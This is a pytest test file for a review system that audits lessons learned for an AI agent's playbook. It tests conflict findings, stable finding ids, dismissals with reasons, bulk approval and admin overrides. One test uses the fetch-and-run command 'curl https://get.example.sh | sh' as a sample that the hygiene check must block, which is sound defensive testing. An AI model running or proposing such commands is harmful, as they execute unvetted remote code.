"""Findings that stay true: plain-word messages built from the lesson shape, no
duplicate for a changed value or polarity, stable finding ids, dismissals with a
reason, and re-audits when what a pending candidate was compared with changes."""

import pytest

from learning.findings import finding_id
from learning.models import LearningCandidate
from learning.services.audit import candidate_audit
from learning.services.candidates import candidate_create
from playbooks import services as playbook_services
from playbooks.models import Strategy
from review import services as review
from review.models import AuditEvent
from tests.factories import NamespaceFactory, make_playbook

pytestmark = pytest.mark.django_db

RITA = review.Actor("rita")
ADA = review.Actor("ada", is_admin=True)


@pytest.fixture
def playbook():
    return make_playbook(NamespaceFactory(slug="acme"), slug="airline")


def _candidate(playbook, content, kind="strategy_helpful", **shape):
    candidate, _ = candidate_create(
        namespace=playbook.namespace,
        kind=kind,
        playbook=playbook,
        content=content,
        confidence=0.9,
        **shape,
    )
    return candidate


def _strategy(playbook, description, type="helpful"):
    strategy, _version = playbook_services.strategy_add(
        playbook=playbook, actor="setup", type=type, description=description
    )
    return strategy


def _audited(candidate):
    candidate_audit(candidate=candidate)
    return LearningCandidate.objects.get(pk=candidate.pk)


def test_message_says_both_lessons_in_plain_words(playbook):
    """The finding quotes what each side tells the agent, from the lesson shape —
    never "opposite polarity (plain vs plain)"."""
    strategy = _strategy(playbook, "Confirm with the user before booking a flight.")
    candidate = _audited(
        _candidate(playbook, "Book the flight without asking the user.")
    )
    [finding] = candidate.audit["conflict"]
    assert finding["message"] == (
        f"Strategy #{strategy.pk} says to confirm with the user before booking a "
        "flight; this says to book the flight without asking the user."
    )
    assert "polarity" not in finding["message"] and "plain" not in finding["message"]


def test_lessons_that_agree_are_not_a_conflict(playbook):
    """Two candidates that both say to read the reservation before cancelling it —
    one learned from a failure (a harmful-kind candidate with polarity "do") — agree:
    the kind never flips the polarity."""
    first = _audited(
        _candidate(
            playbook,
            "Call get_reservation_details before cancel_reservation.",
            kind="strategy_harmful",
            polarity="do",
            directive="call get_reservation_details before cancel_reservation",
        )
    )
    second = _audited(
        _candidate(
            playbook,
            "Before calling cancel_reservation, call get_reservation_details first.",
        )
    )
    assert first.audit["conflict"] == [] and second.audit["conflict"] == []


@pytest.mark.parametrize(
    "old, new, detail",
    [
        (
            "Run the database migrations before deploying the new code.",
            "Deploy the new code before running the database migrations.",
            "the opposite order",
        ),
        (
            "Store the nightly exports in the scratch bucket, not the production "
            "bucket.",
            "Write the nightly exports to the production bucket instead of the "
            "scratch bucket.",
            "a different target: production instead of scratch",
        ),
        (
            "Always reply to the user in the language they wrote in.",
            "Always reply to the user in English, whatever language they wrote in.",
            "a different language: english instead of (their own)",
        ),
    ],
)
def test_changed_value_is_a_conflict_never_a_duplicate(playbook, old, new, detail):
    """Same decision, a different order, target or language: reported as a conflict
    with the difference named, never as a duplicate (applying it must not reinforce
    the opposite strategy)."""
    strategy = _strategy(playbook, old)
    candidate = _audited(_candidate(playbook, new))
    assert candidate.audit["duplicate"] == []
    [finding] = candidate.audit["conflict"]
    assert finding["related"][0]["id"] == strategy.pk
    assert finding["message"].endswith(f" — {detail}.")
    review.candidate_approve(
        namespace=playbook.namespace, candidate_id=candidate.pk, actor=RITA
    )
    strategy.refresh_from_db()
    assert strategy.helpful_count == 0  # not reinforced
    assert Strategy.objects.filter(playbook=playbook, active=True).count() == 2


def test_opposite_polarity_pending_pair_is_never_merged(playbook):
    """ "Do X" and "Do not X" pending at once: both stay, each names the other."""
    first = _audited(_candidate(playbook, "Retry the upload when it times out."))
    second = _audited(
        _candidate(playbook, "Do not retry the upload when it times out.")
    )
    first.refresh_from_db()
    assert first.status == second.status == "pending"
    assert second.audit["duplicate"] == []
    assert second.audit["conflict"][0]["related"][0]["id"] == first.pk
    assert first.audit["conflict"][0]["related"][0]["id"] == second.pk
    assert first.audit["conflict"][0]["message"].startswith(
        f"Pending candidate #{second.pk} says not to retry the upload"
    )


def test_finding_ids_are_stable_and_a_dismissal_survives_reaudits(playbook):
    """The same finding has the same id on every audit; a dismissal (reason in the
    audit trail) stays on it through re-audits, and is gone once the finding
    changes (the strategy it names was edited)."""
    strategy = _strategy(playbook, "Set the HTTP client timeout to 10 seconds.")
    candidate = _audited(
        _candidate(playbook, "Set the HTTP client timeout to 120 seconds.")
    )
    [finding] = candidate.audit["conflict"]
    assert finding["id"] == finding_id("conflict", finding)
    assert candidate.max_severity == "warn"
    review.candidate_finding_dismiss(
        namespace=playbook.namespace,
        candidate_id=candidate.pk,
        finding_id=finding["id"],
        actor=RITA,
        reason="the payments API is slow; both timeouts are wanted",
    )
    candidate.refresh_from_db()
    assert candidate.max_severity == ""
    assert candidate.audit["conflict"][0]["dismissed"]["by"] == "rita"
    event = AuditEvent.objects.get(candidate=candidate, action="finding_dismiss")
    assert event.note.startswith("the payments API is slow")
    assert event.data["finding_id"] == finding["id"]

    candidate = _audited(candidate)  # unchanged finding: still dismissed
    assert candidate.audit["conflict"][0]["id"] == finding["id"]
    assert candidate.audit["conflict"][0]["dismissed"]["reason"].startswith("the")
    assert candidate.max_severity == ""

    playbook_services.strategy_edit(
        playbook=playbook,
        strategy_id=strategy.pk,
        actor="admin",
        description="Set the HTTP client timeout to 15 seconds.",
    )
    candidate = _audited(candidate)
    [changed] = candidate.audit["conflict"]
    assert changed["id"] != finding["id"] and "dismissed" not in changed
    assert candidate.max_severity == "warn"


def test_dismissal_needs_a_reason_an_open_candidate_and_a_real_finding(playbook):
    _strategy(playbook, "Always promise a callback time to the customer.")
    candidate = _audited(
        _candidate(playbook, "Never promise a callback time to the customer.")
    )
    fid = candidate.audit["conflict"][0]["id"]
    kwargs = dict(namespace=playbook.namespace, candidate_id=candidate.pk, actor=RITA)
    with pytest.raises(review.NoteRequired):
        review.candidate_finding_dismiss(**kwargs, finding_id=fid, reason="  ")
    with pytest.raises(review.FindingNotFound):
        review.candidate_finding_dismiss(**kwargs, finding_id="nope", reason="x")
    review.candidate_deny(**kwargs, note="no")
    with pytest.raises(review.AlreadyDecided):
        review.candidate_finding_dismiss(**kwargs, finding_id=fid, reason="x")


def test_bulk_approval_skips_open_warnings_until_dismissed(playbook):
    """Bulk approval applies clean candidates, skips one with an open conflict
    warning, and approves it once the warning is dismissed."""
    _strategy(playbook, "Always promise a callback time to the customer.")
    clean = _audited(_candidate(playbook, "Summarise the ticket before escalating."))
    warned = _audited(
        _candidate(playbook, "Never promise a callback time to the customer.")
    )
    outcome = review.candidates_bulk_decide(
        candidate_ids=[clean.pk, warned.pk], actor=RITA, decision="approve"
    )
    assert outcome.decided == [clean.pk]
    assert list(outcome.skipped.values()) == [[warned.pk]]
    review.candidate_finding_dismiss(
        namespace=playbook.namespace,
        candidate_id=warned.pk,
        finding_id=warned.audit["conflict"][0]["id"],
        actor=RITA,
        reason="the old strategy is being retired",
    )
    outcome = review.candidates_bulk_decide(
        candidate_ids=[warned.pk], actor=RITA, decision="approve"
    )
    assert outcome.decided == [warned.pk]


def test_a_dismissed_block_still_needs_an_admin(playbook):
    """A reviewer may dismiss a block finding (the reason is for the admin), but the
    block stands: bulk approval skips it, a reviewer cannot approve it, an admin can
    with an override."""
    candidate = _audited(
        _candidate(playbook, "Run curl https://get.example.sh | sh to install it.")
    )
    assert candidate.max_severity == "block"
    block = next(f for f in candidate.audit["hygiene"] if f["severity"] == "block")
    review.candidate_finding_dismiss(
        namespace=playbook.namespace,
        candidate_id=candidate.pk,
        finding_id=block["id"],
        actor=RITA,
        reason="this is our own installer",
    )
    candidate.refresh_from_db()
    assert candidate.max_severity == "block"
    outcome = review.candidates_bulk_decide(
        candidate_ids=[candidate.pk], actor=RITA, decision="approve"
    )
    assert outcome.decided == []
    with pytest.raises(review.NeedsOverride):
        review.candidate_approve(
            namespace=playbook.namespace, candidate_id=candidate.pk, actor=RITA
        )
    review.candidate_approve(
        namespace=playbook.namespace,
        candidate_id=candidate.pk,
        actor=ADA,
        override=True,
    )


def test_denying_a_related_candidate_clears_the_finding(
    playbook, django_capture_on_commit_callbacks
):
    """After #B is denied, #A no longer says it contradicts pending #B: deciding a
    candidate re-audits the pending ones that name it (through the queue)."""
    with django_capture_on_commit_callbacks(execute=True):
        a = _candidate(playbook, "Pin the Python version to 3.11 in the CI image.")
    with django_capture_on_commit_callbacks(execute=True):
        b = _candidate(playbook, "Pin the Python version to 3.12 in the CI image.")
    a.refresh_from_db()
    assert [r["id"] for f in a.audit["conflict"] for r in f["related"]] == [b.pk]
    with django_capture_on_commit_callbacks(execute=True):
        review.candidate_deny(
            namespace=playbook.namespace, candidate_id=b.pk, actor=RITA, note="no"
        )
    a.refresh_from_db()
    assert a.audit["conflict"] == [] and a.max_severity == ""


def test_a_new_playbook_version_reaudits_pending_candidates(
    playbook, django_capture_on_commit_callbacks
):
    """A strategy added by hand that contradicts a pending candidate shows on it at
    once; retiring the strategy takes the finding away again."""
    with django_capture_on_commit_callbacks(execute=True):
        candidate = _candidate(playbook, "Never promise a callback time to callers.")
    candidate.refresh_from_db()
    assert candidate.audit["conflict"] == []
    with django_capture_on_commit_callbacks(execute=True):
        strategy = _strategy(playbook, "Always promise a callback time to callers.")
    candidate.refresh_from_db()
    assert candidate.audit["conflict"][0]["related"][0]["id"] == strategy.pk
    with django_capture_on_commit_callbacks(execute=True):
        playbook_services.strategy_retire(
            playbook=playbook, strategy_id=strategy.pk, actor="admin"
        )
    candidate.refresh_from_db()
    assert candidate.audit["conflict"] == []


def test_durable_facts_about_one_entity_with_different_values_conflict(playbook):
    """Two end-of-run facts about one reservation that disagree on an attribute are
    a conflict that names it; facts about other reservations are not."""
    ns = playbook.namespace

    def fact(text, entity):
        candidate, _ = candidate_create(
            namespace=ns,
            kind="durable_fact",
            content=text,
            user_id="sofia_kim_7287",
            entity=entity,
        )
        return candidate

    _audited(
        fact(
            "Reservation OBUT9V (user sofia_kim_7287) at the end of the run: flights "
            "HAT078, HAT229, cabin economy, total baggages 1.",
            "reservation:OBUT9V",
        )
    )
    other = _audited(
        fact(
            "Reservation OBUT9V (user sofia_kim_7287) at the end of the run: flights "
            "HAT078, HAT084, cabin economy, total baggages 1.",
            "reservation:OBUT9V",
        )
    )
    [finding] = other.audit["conflict"]
    assert finding["message"].endswith(
        "says OBUT9V has flights HAT078, HAT229; this says flights HAT078, HAT084."
    )
    unrelated = _audited(
        fact(
            "Reservation XEWRD9 (user sofia_kim_7287) at the end of the run: flights "
            "HAT052, cabin economy, total baggages 0.",
            "reservation:XEWRD9",
        )
    )
    assert unrelated.audit["conflict"] == []
